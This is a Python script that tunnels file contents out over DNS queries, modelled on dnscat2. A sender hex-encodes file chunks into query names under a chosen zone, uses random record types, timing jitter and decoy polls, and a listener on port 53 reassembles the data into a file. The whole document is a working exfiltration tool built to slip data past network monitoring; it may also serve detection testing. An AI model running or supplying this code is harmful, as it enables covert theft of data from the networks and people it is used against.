#!/usr/bin/env python3
"""A command channel in names, in the manner of dnscat2: hexadecimal labels, answers of the same kind,
and questions with nothing to say while there is nothing to say.

usage: dnscat.py serve ADDRESS FILE ZONE
       dnscat.py send RESOLVER ZONE FILE CHUNK_BYTES POLLS PAUSE_S KIND[,KIND…] SEED
Names: NUMBER in 8 digits, then data, in labels of at most 60 digits, under ZONE.
"""
import os, random, socket, struct, sys, time

import dns_wire as dns

KINDS = {"TXT": dns.TXT, "CNAME": dns.CNAME, "MX": dns.MX, "A": dns.A}


def answer(kind, zone):
    said = os.urandom(random.choice([8, 8, 8, 16, 40])).hex()
    if kind == dns.TXT:
        return dns.text_data(said.encode())
    if kind == dns.A:
        return os.urandom(4)
    name = dns.pack_name(".".join([said[at : at + 60] for at in range(0, len(said), 60)] + [zone]))
    return struct.pack("!H", 10) + name if kind == dns.MX else name


def serve(address, path, zone):
    out = os.open(path, os.O_CREAT | os.O_WRONLY)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((address, 53))
    print("ready", flush=True)
    while True:
        message, peer = s.recvfrom(4096)
        name, kind, _ = dns.question(message)
        digits = name[: -len(zone) - 1].replace(".", "").lower()
        try:
            data = bytes.fromhex(digits)
        except ValueError:
            continue
        if len(data) > 8:
            os.pwrite(out, data[8:], struct.unpack("!I", data[4:8])[0])
        s.sendto(dns.reply(message, [(kind, answer(kind, zone))]), peer)


def ask(s, name, kind):
    for _ in range(6):
        s.send(dns.query(name, kind))
        try:
            return s.recv(4096)
        except TimeoutError:
            pass
    sys.exit(f"no answer to {name}")


def send(resolver, zone, path, chunk, polls, pause, kinds, seed):
    random.seed(seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    s.connect((resolver, 53))
    data, number = open(path, "rb").read(), 0
    turns = [at for at in range(0, len(data), chunk)] + [-1] * polls
    for at in sorted(turns, key=lambda at: at if at >= 0 else random.randrange(len(data))):
        body = struct.pack("!II", number, max(at, 0)) + (data[at : at + chunk] if at >= 0 else b"")
        digits = body.hex()
        labels = [digits[at : at + 60] for at in range(0, len(digits), 60)]
        ask(s, ".".join(labels + [zone]), KINDS[random.choice(kinds)])
        number += 1
        time.sleep(pause * random.uniform(0.5, 1.5))


if sys.argv[1] == "serve":
    serve(*sys.argv[2:5])
else:
    resolver, zone, path, chunk, polls, pause, kinds, seed = sys.argv[2:]
    send(resolver, zone, path, int(chunk), int(polls), float(pause), kinds.split(","), int(seed))
